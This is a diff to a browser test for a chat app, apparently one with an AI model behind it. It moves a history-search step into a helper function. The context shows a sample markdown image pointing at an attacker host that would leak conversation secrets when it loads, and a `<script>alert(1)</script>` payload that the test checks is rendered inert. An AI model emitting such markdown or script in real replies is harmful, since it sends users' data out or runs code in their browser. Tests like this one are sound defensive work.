@@ -9,7 +9,7 @@ reply leaks the conversation: `![](https://attacker/?q=<secret>)` loads without 
 
 from __future__ import annotations
 
-from tests.browser.harness import send_chat, wait_until_idle
+from tests.browser.harness import search_history, send_chat, wait_until_idle
 from tests.fake_openai import Reply
 
 MESSAGES = "[data-testid=stChatMessage]"
@@ -169,10 +169,7 @@ def test_hostile_markdown_and_html_in_replies_stay_inert(live_app, page):
     # History: the search snippet, then the conversation reopened from it.
     page.goto(f"{server.url}/History")
     wait_until_idle(page)
-    box = page.get_by_label("Search every message")
-    box.fill("alert")
-    box.press("Enter")
-    page.get_by_text("match “alert”").wait_for(timeout=15_000)
+    search_history(page, "alert")
     main = page.locator("[data-testid=stMain]")
     assert "<script>alert(1)</script>" in main.inner_text()
     assert_inert(page, console_errors, fake, "history search", root="[data-testid=stMain]")
